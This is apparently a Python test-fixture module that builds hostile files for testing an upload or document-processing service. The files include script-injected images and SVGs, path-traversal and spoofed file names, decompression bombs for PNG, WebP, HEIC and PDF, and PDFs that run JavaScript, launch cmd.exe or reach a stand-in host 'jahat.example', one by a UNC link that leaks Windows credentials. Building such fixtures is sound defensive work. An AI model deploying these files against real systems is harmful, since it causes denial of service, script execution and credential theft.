"""Files that lie, burst or bite. Each is harmless unless somebody believes it."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.support import sample_files

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
JPEG_MAGIC_AND_SCRIPT = b"\xff\xd8\xff\xe0" + SCRIPT
WORD = b"PK\x03\x04\x14\x00\x06\x00" + b"word/document.xml" * 20
JAR = b"PK\x03\x04" + b"META-INF/MANIFEST.MF" + b"PK\x05\x06" + bytes(18)
VIDEO = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(200)
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "ijazah\0.pdf",
    "sertifikat.pdf.exe",
    "sertifikat.jpg.html",
    "tanpa-akhiran",
    "ijazah\u202efdp.exe",
    "شهادة.pdf",
    "a" * 300 + ".pdf",
    "🎓" * 200,
    "\ud800.pdf",
    "   ",
    "",
    "...",
)


def gif() -> bytes:
    return sample_files.encoded(Image.new("P", (40, 30)), "GIF")


def animated_webp() -> bytes:
    frames = [Image.new("RGB", (60, 40), colour) for colour in ("red", "blue")]
    return sample_files.encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:])


def photo_with_script(place: str) -> bytes:
    """A web page for whoever believes a wrong type, a photo for everybody else."""
    photo = sample_files.certificate((400, 283))
    if place == "text":
        whole = sample_files.png(photo)
        return whole[:33] + png_chunk(b"tEXt", b"Comment\0" + SCRIPT) + whole[33:]
    if place == "exif":
        exif = Image.Exif()
        exif[0x010E] = SCRIPT.decode()  # ImageDescription
        return sample_files.encoded(photo, "JPEG", exif=exif)
    if place == "comment":
        return sample_files.encoded(photo, "JPEG", comment=SCRIPT)
    return sample_files.jpeg(photo) + SCRIPT


def truncated(data: bytes) -> bytes:
    """The first two thirds, as after a line that dropped."""
    return data[: len(data) * 2 // 3]


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A few hundred bytes that announce 2.5 thousand million pixels."""

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + body + png_chunk(b"IEND", b"")


def png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = struct.pack(">I", zlib.crc32(kind + data))
    return struct.pack(">I", len(data)) + kind + data + crc


def png_text_bomb(kind: bytes, megabytes: int = 2000) -> bytes:
    """A photo whose note (zTXt) or colour profile (iCCP) unpacks to gigabytes."""
    photo, header = sample_files.png(), 33
    note = png_chunk(kind, b"x\0\0" + zeros_deflated(megabytes))
    return photo[:header] + note + photo[header:]


def webp_bomb(side: int = 16_383) -> bytes:
    """A hundred bytes that announce the largest picture that WebP knows."""
    frame = b"\x2f" + struct.pack("<I", (side - 1) | (side - 1) << 14) + bytes(51)
    body = b"WEBPVP8L" + struct.pack("<I", len(frame)) + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heic_bomb(side: int = 50_000) -> bytes:
    """A small photo that calls itself 2.5 thousand million pixels wide and high."""
    photo = bytearray(sample_files.heic())
    place = photo.find(b"ispe")
    while place > 0:
        photo[place + 8 : place + 16] = struct.pack(">II", side, side)
        place = photo.find(b"ispe", place + 4)
    return bytes(photo)


def zeros_deflated(megabytes: int) -> bytes:
    """A valid zlib stream of that many megabytes of zeros, made without compressing them."""
    length = 1024 * 1024
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    engine.compress(b"")
    block = engine.compress(bytes(length)) + engine.flush(zlib.Z_FULL_FLUSH)
    checksum = ((megabytes * length) % 65521) << 16 | 1
    return b"\x78\xda" + block * megabytes + b"\x03\x00" + struct.pack(">I", checksum)


def raw_pdf(objects: Mapping[int, bytes], *, root: int = 1) -> bytes:
    """A PDF written by hand: number → body of the object."""
    data, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(data), max(objects) + 1
    rows = b"".join(
        b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n"
        for n in range(size)
    )
    trailer = b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (size, root)
    end = b"xref\n0 %d\n%s%sstartxref\n%d\n%%%%EOF\n" % (size, rows, trailer, start)
    return bytes(data) + end


def object_stream_bomb(megabytes: int = 20_000) -> bytes:
    """A PDF of some kilobytes whose page object hides in 20 GB of zeros."""
    twice = zlib.compress(zeros_deflated(megabytes), 9)
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    data, offsets = b"%PDF-1.7\n", {}
    for number, body in (
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (
            4,
            b"<< /Type /ObjStm /N 1 /First 4 /Length %d %s >>\nstream\n" % (len(twice), filters)
            + twice
            + b"\nendstream",
        ),
    ):
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    rows = [(0, 0, 0), (1, offsets[1], 0), (1, offsets[2], 0), (2, 4, 0), (1, offsets[4], 0)]
    rows.append((1, start, 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(table)
    data += b"5 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (head, table)
    return data + b"startxref\n%d\n%%%%EOF\n" % start


def content_bomb(megabytes: int = 20_000) -> bytes:
    """A PDF whose page is 20 GB of drawing orders, packed twice."""
    twice = zlib.compress(zeros_deflated(megabytes), 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>" % len(twice)
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            4: head + b"\nstream\n" + twice + b"\nendstream",
        }
    )


def thick_pdf(pages: int) -> bytes:
    """Empty pages, one object each: ten megabytes."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, pages + 3))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
    }
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return raw_pdf(objects | dict.fromkeys(range(3, pages + 3), page))


def page_tree_bomb(depth: int = 30) -> bytes:
    """Each level names the next one twice: thirty small objects, a thousand million pages."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for level in range(2, depth + 2):
        kid = b"%d 0 R" % (level + 1)
        parent = b"" if level == 2 else b"/Parent %d 0 R " % (level - 1)
        count = 2 ** (depth + 2 - level)
        objects[level] = b"<< /Type /Pages %s/Kids [%s %s] /Count %d >>" % (
            parent,
            kid,
            kid,
            count,
        )
    leaf = depth + 2
    objects[leaf] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (leaf - 1)
    return raw_pdf(objects)


def pdf_without_pages() -> bytes:
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [] /Count 0 >>",
        }
    )


def html_then_pdf() -> bytes:
    """A web page for those who look at the first bytes, a PDF for those who search on."""
    return HTML + b"\n" + sample_files.pdf()


def pdf_then_html() -> bytes:
    return sample_files.pdf() + HTML


def scripted_pdf() -> pikepdf.Pdf:
    """JavaScript in every place where viewers look for it."""
    pdf = sample_files.new_pdf()
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('halo')"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("mulai"), pdf.make_indirect(script)]))
    )
    pdf.pages[0].obj.AA = Dictionary(O=script)
    return pdf


def launching_pdf() -> pikepdf.Pdf:
    """A link that covers the page and starts a program."""
    pdf = sample_files.new_pdf()
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=launch)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return pdf


def attaching_pdf() -> pikepdf.Pdf:
    """A program travels along as an attachment."""
    pdf = sample_files.new_pdf()
    pdf.attachments["virus.exe"] = b"MZ\x90\x00 program"
    return pdf


def hiding_pdf() -> pikepdf.Pdf:
    """A script below the resources of a page, where no viewer looks today."""
    pdf = sample_files.new_pdf()
    pdf.pages[0].obj.Resources.Properties = Dictionary(
        Aneh=Dictionary(AA=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    )
    return pdf


def calling_pdf() -> pikepdf.Pdf:
    """Opens an address as soon as it is opened itself."""
    pdf = sample_files.new_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://jahat.example/lacak"))
    return pdf


def chained_pdf() -> pikepdf.Pdf:
    """The same behind a harmless first step."""
    pdf = calling_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=String("awal"), Next=pdf.Root.OpenAction)
    return pdf


def turning_pdf() -> pikepdf.Pdf:
    """Opens an address when its page is shown."""
    pdf = sample_files.new_pdf()
    visit = Dictionary(S=Name.URI, URI=String("https://jahat.example/lacak"))
    pdf.pages[0].obj.AA = Dictionary(O=visit)
    return pdf


def luring_pdf() -> pikepdf.Pdf:
    """A link to a file on a stranger's computer: Windows would greet it with the own password."""
    pdf = sample_files.new_pdf()
    away = Dictionary(S=Name.GoToR, F=String("\\\\jahat.example\\x.pdf"), D=Array([0, Name.Fit]))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=away)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return pdf


def borrowing_pdf() -> pikepdf.Pdf:
    """What is drawn lies in a file on a stranger's computer."""
    pdf = sample_files.new_pdf()
    drawing = pikepdf.Stream(pdf, b"")
    drawing.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 9, 9]),
        F=String("\\\\jahat.example\\isi"),
        FFilter=Name.FlateDecode,
    )
    pdf.pages[0].obj.Resources.XObject = Dictionary(Pinjam=pdf.make_indirect(drawing))
    return pdf


def form_pdf() -> pikepdf.Pdf:
    """An XFA form: a program in XML."""
    pdf = sample_files.new_pdf()
    xfa = pikepdf.Stream(pdf, b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_indirect(xfa))
    return pdf


def giant_page_pdf(points: int = 100_000_000) -> bytes:
    """Paper of 35,000 km a side."""
    return sample_files.saved(sample_files.new_pdf(1, (points, points)))


def pdf_of_signatures(number: int) -> bytes:
    """So many claims of the place of one signature: each costs a hash over the whole file."""
    pdf = sample_files.new_pdf()
    ranges = [0, 1_000_000_000, 1_000_000_000, 1_000_000_000]
    claims = [Dictionary(ByteRange=Array(ranges), Contents=String("x")) for _ in range(1, number)]
    pdf.Root.Klaim = Array(claims)
    return sample_files.signed_pdf(pdf)


def falsely_signed_pdf() -> bytes:
    """Claims a signature, so that its script be kept byte for byte; the ranges are invented."""
    pdf = scripted_pdf()
    claim = Dictionary(
        Type=Name.Sig, ByteRange=Array([0, 10, 20, 10]), Contents=String(b"\x00\x00")
    )
    pdf.Root.Klaim = pdf.make_indirect(claim)
    return sample_files.saved(pdf)
